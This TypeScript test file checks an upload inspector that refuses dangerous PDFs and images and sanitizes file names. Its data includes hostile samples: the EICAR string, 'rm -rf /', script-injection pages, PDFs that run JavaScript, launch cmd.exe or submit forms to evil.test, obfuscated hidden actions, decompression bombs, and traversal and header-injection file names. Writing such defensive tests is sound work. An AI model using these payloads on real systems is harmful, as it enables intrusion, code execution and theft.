import { deflateSync, gzipSync } from 'node:zlib'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import { expect, it } from 'vitest'
import { examinePdf } from './examinePdf.ts'
import { fileKind } from './fileKind.ts'
import { cleanName, plainName } from './keepUpload.ts'
import { FileRefused, inspectFile } from './inspectFile.ts'
import { remakeImage } from './remakeImage.ts'
import { qpdfPlain, qpdfScript } from '../../testing/uploads/testEncryptedPdf.ts'
import { bankPdf, hugePicture, packed, pdfOf, picture } from '../../testing/uploads/testFiles.ts'

/** With time for a busy machine. */
const inspect = (bytes: Buffer, maxPages: number, waiting = 12) =>
  inspectFile(bytes, maxPages, { timeMs: 120_000, decryptingMs: 120_000, waiting })

// In two pieces, so that virus scanners do not flag this file.
const eicar = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS'}-TEST-FILE!$H+H*`
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const zip = () => Buffer.from(zipSync({ 'word/document.xml': Buffer.alloc(2_000_000) }))
const text = (words: string) => () => Buffer.from(words)
/** PNG's Sub predictor: each byte as the difference from the previous one. */
const predicted = (words: string) => {
  const bytes = Buffer.from(words)
  return Buffer.concat([Buffer.from([1]), bytes.map((byte, at) => (byte - (bytes[at - 1] ?? 0)) & 0xff)])
}
const inner = `7 0 ${script}`
const hidden = (dictionary: string, data: string | Buffer = inner) =>
  pdfOf({ objects: [packed(data, `/Type /ObjStm /N 1 /First 4 ${dictionary}`)] })
const ascii = (dictionary: string) =>
  `50 0 obj\n<< ${dictionary} >>\nstream\n${Buffer.from(deflateSync(inner)).toString('hex')}>\nendstream\nendobj`

const link = (action: string) => ({ objects: [`60 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj`] })
const inStream = (object: string) => packed(`7 0 ${object}`, '/Type /ObjStm /N 1 /First 4')
/** Each leads out of the document, or runs without a click. */
const actions: [string, Parameters<typeof pdfOf>[0]][] = [
  ['that opens another file', link('<< /S /GoToR /F (\\\\\\\\evil.test\\\\x.pdf) /D [0 /Fit] >>')],
  ['the same, under an escaped name', link('<< /S /GoTo#52 /F (x.pdf) >>')],
  ['the same, in an object stream', { objects: [inStream('<< /S /GoToR /F (x.pdf) >>')] }],
  ['the same, its name apart', { objects: [...link('<< /S 61 0 R /F (x.pdf) >>').objects, '61 0 obj\n/GoToR\nendobj'] }],
  ['that follows a thread elsewhere', link('<< /S /Thread /F (\\\\\\\\evil.test\\\\x.pdf) /D 0 >>')],
  ['with a file of a network by a name of no action', { objects: ['60 0 obj\n<< /Type /Filespec /UF <5c5c6576696c5c78> >>\nendobj'] }],
  ['that opens a page of the web by itself', { catalog: '/OpenAction << /S /URI /URI (https://evil.test) >>' }],
  ['the same, by reference', { catalog: '/OpenAction 60 0 R', objects: ['60 0 obj\n<< /S /URI /URI (https://evil.test) >>\nendobj'] }],
  ['the same, in an object stream', { catalog: '/OpenAction 7 0 R', objects: [inStream('<< /S /URI /URI (https://evil.test) >>')] }],
  ['the same, after a place of its own', { catalog: '/Open#41ction << /S /GoTo /D [10 0 R /Fit] /Next 60 0 R >>' }],
  ['that opens by an object that is not there', { catalog: '/OpenAction 77 0 R' }],
  [
    'that acts when a page is shown',
    { objects: ['60 0 obj\n<< /Type /Page /AA << /O << /S /URI /URI (https://evil.test) >> >> >>\nendobj'] },
  ],
  ['with a link to a file', link('<< /S /URI /URI (file:///etc/passwd) >>')],
  ['with a link into the network', link('<< /S /URI /URI (\\\\\\\\evil.test\\\\x) >>')],
  ['with a link into the network written as hexadecimal', link('<< /S /URI /URI <2f2f6576696c2e74657374> >>')],
  ['with a link of another scheme in octal', link('<< /S /URI /URI (\\152avascript:alert\\(1\\)) >>')],
  ['with a link written elsewhere', link('<< /S /URI /URI 61 0 R >>')],
  ['whose links begin in the network', { catalog: '/URI << /Base (file://evil.test/) >>' }],
  ['with an action that no list names', link('<< /S /NewerAction >>')],
  ['that prints itself', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
]

const refused: [string, () => Buffer | Promise<Buffer>, string][] = [
  ['nothing', text(''), 'empty'],
  ['one byte', text('%'), 'kind'],
  ['a page as .pdf', text('<!doctype html><script>alert(1)</script>'), 'kind'],
  ['a drawing as .pdf', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'kind'],
  ['a drawing behind its XML line', text('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'kind'],
  ['a program of the shell', text('#!/bin/sh\nrm -rf /'), 'kind'],
  ['a program of Windows', text('MZ\u0090\u0000\u0003'), 'kind'],
  ['a program of Linux', text('\u007fELF\u0002\u0001\u0001'), 'kind'],
  ['the test virus', text(eicar), 'kind'],
  ['a document that unfolds', zip, 'kind'],
  ['a packed file', () => gzipSync(Buffer.alloc(9_000_000)), 'kind'],
  ['a GIF', text('GIF89a\u0001\u0000\u0001\u0000'), 'kind'],
  [
    'a WebP',
    async () =>
      sharp(await picture('png'))
        .webp()
        .toBuffer(),
    'kind',
  ],
  [
    'a TIFF',
    async () =>
      sharp(await picture('png'))
        .tiff()
        .toBuffer(),
    'kind',
  ],
  ['a photo of an iPhone', text('\u0000\u0000\u0000\u0018ftypheic'), 'heic'],
  ['one of several pictures', text('\u0000\u0000\u0000\u0018ftypmif1'), 'heic'],
  ['a film', text('\u0000\u0000\u0000\u0018ftypmp42'), 'kind'],
  [
    'a page that begins like a JPEG',
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]),
    'unreadable',
  ],
  [
    'a page that begins like a PNG',
    () => Buffer.concat([Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'), Buffer.from('<script>')]),
    'unreadable',
  ],
  ['half a JPEG', async () => (await picture('jpeg')).subarray(0, 20_000), 'unreadable'],
  ['half a PNG', async () => (await picture('png')).subarray(0, 20_000), 'unreadable'],
  ['a PNG of 50 000 points', () => hugePicture('png'), 'large'],
  [
    'a picture of one point',
    () =>
      sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    'empty',
  ],
  ['something before a PDF', () => Buffer.concat([Buffer.from('<html>'), pdfOf()]), 'kind'],
  ['a PDF that is a page too', () => pdfOf({ head: '%<html><script>alert(1)</script>\n' }), 'mixed'],
  ['anything behind a PDF', () => pdfOf({ tail: '\nsomething else' }), 'mixed'],
  ['a page behind a PDF', () => pdfOf({ tail: '\n<script>alert(1)</script>' }), 'mixed'],
  ['an archive behind a PDF', () => Buffer.concat([pdfOf(), Buffer.from(zipSync({ a: Buffer.from('x') }))]), 'mixed'],
  [
    'an archive within a PDF',
    () =>
      pdfOf({
        objects: [
          `60 0 obj\n<< /Length 9 >>\nstream\n${Buffer.from(zipSync({ a: Buffer.from('x') })).toString('latin1')}\nendstream\nendobj`,
        ],
      }),
    'mixed',
  ],
  ['the test virus in a PDF', () => pdfOf({ head: `%${eicar}\n` }), 'mixed'],
  ['the test virus packed in a PDF', () => pdfOf({ objects: [packed(eicar)] }), 'mixed'],
  ['half a PDF', () => pdfOf().subarray(0, 200), 'mixed'],
  ['the head of a PDF', text('%PDF-1.7\n%%EOF\n'), 'unreadable'],
  ['a PDF with JavaScript', () => pdfOf({ catalog: `/OpenAction ${script}` }), 'active'],
  [
    'a PDF with JavaScript under an escaped name',
    () => pdfOf({ catalog: `/OpenAction ${script.replace('JavaScript', 'J#61vaScr#69pt')}` }),
    'active',
  ],
  ['a PDF with JavaScript in an object stream', () => hidden(''), 'active'],
  ['the same, its stream called an image', () => hidden('/Subtype /Image'), 'active'],
  [
    'the same, with a wrong checksum',
    () =>
      pdfOf({ objects: [packed(inner, '/Type /ObjStm /N 1 /First 4', 50, (bytes) => (bytes.writeUInt32BE(1, bytes.length - 4), bytes))] }),
    'active',
  ],
  [
    'the same, its bytes turned into differences',
    () => hidden('/DecodeParms << /Predictor 11 /Columns 200 >>', predicted(inner)),
    'unreadable',
  ],
  [
    'the same, under an escaped name',
    () => pdfOf({ objects: [packed(predicted(inner), '/N 1 /F#69rst 4 /DecodeP#61rms << /Predictor 11 >>')] }),
    'unreadable',
  ],
  [
    'the same, with a decoy in a string',
    () => pdfOf({ objects: [packed(predicted(inner), '/Type /ObjStm /First 4 /DecodeParms << /Predictor 11 >> /X (\\) 3 0 obj << >>)')] }),
    'unreadable',
  ],
  [
    'the same, packed twice',
    () => pdfOf({ objects: [ascii('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')] }),
    'unreadable',
  ],
  [
    'the same, packed in a way told elsewhere',
    () => pdfOf({ objects: [ascii('/Type /ObjStm /N 1 /First 4 /Filter 51 0 R'), '51 0 obj\n[/ASCIIHexDecode /FlateDecode]\nendobj'] }),
    'unreadable',
  ],
  ['a PDF that starts a program', () => pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'active'],
  ...actions.map(([label, objects]): [string, () => Buffer, string] => [`a PDF ${label}`, () => pdfOf(objects), 'active']),
  ['a PDF with a film', () => pdfOf({ objects: ['60 0 obj\n<< /Subtype /RichMedia >>\nendobj'] }), 'active'],
  ['a PDF that sends a form', () => pdfOf({ objects: ['60 0 obj\n<< /S /SubmitForm /F (https://evil.test) >>\nendobj'] }), 'active'],
  ['a PDF with a form program', () => pdfOf({ catalog: '/AcroForm << /XFA 60 0 R >>' }), 'active'],
  ['a PDF with a file in it', () => pdfOf({ objects: [packed('MZ', '/Type /EmbeddedFile')] }), 'attached'],
  ['a PDF with files in its catalogue', () => pdfOf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 60 0 R] >> >>' }), 'attached'],
  ['a PDF with a password', () => bankPdf({ userPassword: 'secret', pdfVersion: '1.7' }), 'protected'],
  ['a PDF with JavaScript in an encrypted object stream', () => qpdfScript, 'active'],
  ['a PDF of too many pages', () => pdfOf({ pages: 31 }), 'pages'],
  ['a PDF that unfolds without end', () => pdfOf({ objects: [packed(Buffer.alloc(90_000_000))] }), 'large'],
  ['a PDF that never ends to be read', () => pdfOf({ objects: [`${'1 0 obj << /A << '.repeat(200_000)}`] }), 'large'],
]
/** Each takes seconds, and is stopped by the same limits as the picture of 50 000 points and the two PDFs before: by night alone. */
const stoppedByLimits: typeof refused = [
  ['a JPEG of 50 000 points', () => hugePicture('jpeg'), 'large'],
  [
    'a PDF of many that unfold',
    () => pdfOf({ objects: Array.from({ length: 5 }, (_, at) => packed(Buffer.alloc(20_000_000), '', 50 + at)) }),
    'large',
  ],
  ['a PDF of nothing but names', () => pdfOf({ objects: [packed('/Ab '.repeat(5_000_000))] }), 'large'],
  ['a PDF of streams without number', () => pdfOf({ objects: ['stream\nx\u009c'.repeat(1_000_000)] }), 'large'],
]

/** What the process that inspects files does with one of at most 30 pages, in this process: starting one costs much more than the reading. */
async function examine(bytes: Buffer) {
  const kind = fileKind(bytes)
  if (kind !== 'application/pdf') return remakeImage(bytes, kind ?? 'image/png')
  const result = await examinePdf(bytes, 30)
  return typeof result === 'string' ? result : { kind, bytes: result }
}

/** Found before a process is started, or by the limits of the process. */
const foundOutside = ['empty', 'kind', 'heic', 'large']

it.each(process.env.NIGHTLY === undefined ? refused : [...refused, ...stoppedByLimits])('refuses %s', async (_, make, problem) => {
  const bytes = await make()
  expect(bytes.length).toBeLessThan(10_000_000)
  expect(await (foundOutside.includes(problem) ? refusalOf(bytes) : examine(bytes))).toBe(problem)
})

/** Why the process that inspects a file refuses it. */
async function refusalOf(bytes: Buffer): Promise<string> {
  const result = await inspect(bytes, 30).catch((error: unknown) => error)
  expect(result).toBeInstanceOf(FileRefused)
  return (result as FileRefused).problem
}

it.each([
  ['an active PDF', () => pdfOf(actions[0]?.[1]), 'active'],
  ['a PDF with a password', () => bankPdf({ userPassword: 'secret', pdfVersion: '1.7' }), 'protected'],
  ['the head of a PDF', text('%PDF-1.7\n%%EOF\n'), 'unreadable'],
  ['half a JPEG', async () => (await picture('jpeg')).subarray(0, 20_000), 'unreadable'],
] satisfies typeof refused)('refuses %s in the process that inspects files', async (_, make, problem) => {
  expect(await refusalOf(await make())).toBe(problem)
})

const taken: [string, () => Buffer | Promise<Buffer>, string][] = [
  ['a PDF', () => pdfOf(), 'application/pdf'],
  ['a PDF as a program writes it', () => bankPdf(), 'application/pdf'],
  [
    'a PDF that opens without its password and limits what is done with it',
    () => bankPdf({ ownerPassword: 'secret', pdfVersion: '1.7' }),
    'application/pdf',
  ],
  ['the same, of PDF 2.0', () => qpdfPlain, 'application/pdf'],
  ['a PDF with a protected-looking text', () => pdfOf({ objects: [packed('BT (Encrypt Launch JavaScript) Tj ET')] }), 'application/pdf'],
  [
    'a PDF of object streams',
    () => pdfOf({ objects: [packed('7 0 << /Type /Page >>', '/Type /ObjStm /N 1 /First 4')] }),
    'application/pdf',
  ],
  [
    'a PDF with a table packed by differences',
    () => pdfOf({ objects: [packed(predicted('xref'), '/Type /XRef /DecodeParms << /Predictor 12 /Columns 4 >>')] }),
    'application/pdf',
  ],
  ['a PDF with zeros behind it, as some programs write it', () => pdfOf({ tail: `\n${'\0'.repeat(4_096)}` }), 'application/pdf'],
  ['a PDF behind a line end', () => Buffer.concat([Buffer.from('\r\n'), pdfOf()]), 'application/pdf'],
  ['a PDF behind the mark of UTF-8', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdfOf()]), 'application/pdf'],
  ['a PDF of thirty pages', () => pdfOf({ pages: 30 }), 'application/pdf'],
  [
    'a PDF with links to the web, to a mailbox and within',
    () =>
      pdfOf({
        objects: [
          link('<< /Type /Action /S /URI /URI (https://banco.test/a?b=1) >>'),
          link('<</S/URI/URI(mailto:ayuda@banco.test)>>'),
          link('<< /S /GoTo /D [10 0 R /Fit] >>'),
        ].flatMap(({ objects }) => objects),
      }),
    'application/pdf',
  ],
  ['a PDF that opens at its first page', () => pdfOf({ catalog: '/OpenAction [10 0 R /FitH null]' }), 'application/pdf'],
  ['the same, by an action', () => pdfOf({ catalog: '/OpenAction << /S /GoTo /D [10 0 R /Fit] >>' }), 'application/pdf'],
  [
    'the same, by reference',
    () => pdfOf({ catalog: '/OpenAction 60 0 R', objects: ['60 0 obj\n[10 0 R /Fit]\nendobj'] }),
    'application/pdf',
  ],
  [
    'the same, in an object stream',
    () => pdfOf({ catalog: '/OpenAction 7 0 R', objects: [inStream('<< /S /GoTo /D [10 0 R /Fit] >>')] }),
    'application/pdf',
  ],
  [
    'a tagged PDF',
    () => pdfOf({ objects: ['60 0 obj\n<< /Type /StructElem /S /P /A << /O /Layout /Placement /Block >> /K 0 >>\nendobj'] }),
    'application/pdf',
  ],
  ['a signed form', () => pdfOf({ catalog: '/AcroForm << /Fields [] /SigFlags 3 >>' }), 'application/pdf'],
  ['a JPEG', () => picture('jpeg'), 'image/jpeg'],
  ['a PNG', () => picture('png'), 'image/png'],
]

it.each(taken)('takes %s', async (_, make, kind) => {
  const bytes = await make()
  expect(fileKind(bytes)).toBeDefined()
  expect(await examine(bytes)).toMatchObject({ kind })
})

it.each([
  ['a PDF', () => pdfOf(), 'application/pdf'],
  ['an encrypted PDF', () => bankPdf({ ownerPassword: 'secret', pdfVersion: '1.7' }), 'application/pdf'],
  ['a photograph as PNG', () => picture('png', { side: 1_300 }), 'image/jpeg'],
] satisfies typeof taken)('takes %s in the process that inspects files', async (_, make, kind) => {
  expect((await inspect(await make(), 30)).kind).toBe(kind)
})

it('a long document may have as many pages as its type allows', async () => {
  expect((await inspect(pdfOf({ pages: 300 }), 300)).kind).toBe('application/pdf')
  const refusal = await inspect(pdfOf({ pages: 301 }), 300).catch((error: unknown) => error)
  expect(refusal).toMatchObject({ problem: 'pages', maxPages: 300 })
})

it('only the pixels of a picture are kept: no appended archive, location or camera', async () => {
  for (const kind of ['jpeg', 'png'] as const) {
    const sent = Buffer.concat([
      await picture(kind, { gps: true }),
      Buffer.from(zipSync({ 'a.txt': Buffer.from('behind') })),
      Buffer.from('<script>'),
    ])
    expect([sent.includes('MarkedCamera'), sent.includes('PK\u0005\u0006')]).toEqual([true, true])
    const { bytes } = await inspect(sent, 30)
    for (const trace of ['MarkedCamera', 'PK\u0003\u0004', 'PK\u0005\u0006', '<script>', 'Exif'])
      expect(bytes.includes(trace), trace).toBe(false)
    const { width, exif } = await sharp(bytes).metadata()
    expect([width, exif]).toEqual([600, undefined])
  }
})

it('handles many concurrent files', async () => {
  const bytes = await picture('jpeg')
  const results = await Promise.allSettled(Array.from({ length: 12 }, () => inspect(bytes, 30, 1)))
  const done = results.filter(({ status }) => status === 'fulfilled').length
  const busy = results.filter(
    (result) => result.status === 'rejected' && (result.reason as Error).constructor.name === 'InspectionBusy',
  ).length
  expect([done, busy]).toEqual([3, 9])
  expect((await inspect(bytes, 30)).kind).toBe('image/jpeg')
})

it.each([
  ['certificado.pdf', 'certificado.pdf'],
  ['Certificado de titularidad (Núñez).PDF', 'Certificado de titularidad (Núñez).pdf'],
  ['../../etc/passwd', 'passwd.pdf'],
  ['C:\\Users\\ana\\cert.pdf', 'cert.pdf'],
  ['a\u0000b.pdf', 'ab.pdf'],
  ['a\r\nSet-Cookie: x=1.pdf', 'aSet-Cookie_ x_1.pdf'],
  ['factura\u202Efdp.exe', 'facturafdp.pdf'],
  ['cert.pdf.exe', 'cert.pdf'],
  ['.htaccess', 'htaccess.pdf'],
  ['...', 'file.pdf'],
  ['', 'file.pdf'],
  ['CON.pdf', 'file.pdf'],
  ['"; filename="x.html', 'filename__x.pdf'],
  ['<script>.pdf', 'script_.pdf'],
  ['\uD800.pdf', 'file.pdf'],
])('the name %j is kept as %j', (sent, kept) => expect(cleanName(sent, 'application/pdf', 'file')).toBe(kept))

it('a name of four kilobytes is cut between characters; one for a header is ASCII', () => {
  const cut = cleanName(`${'ñ😀'.repeat(1_000)}.pdf`, 'image/png', 'file')
  expect([[...cut].length, cut.isWellFormed()]).toEqual([84, true])
  expect(plainName('Certificación Núñez 😀 "x".pdf')).toBe('Certificacion Nunez __ _x_.pdf')
})
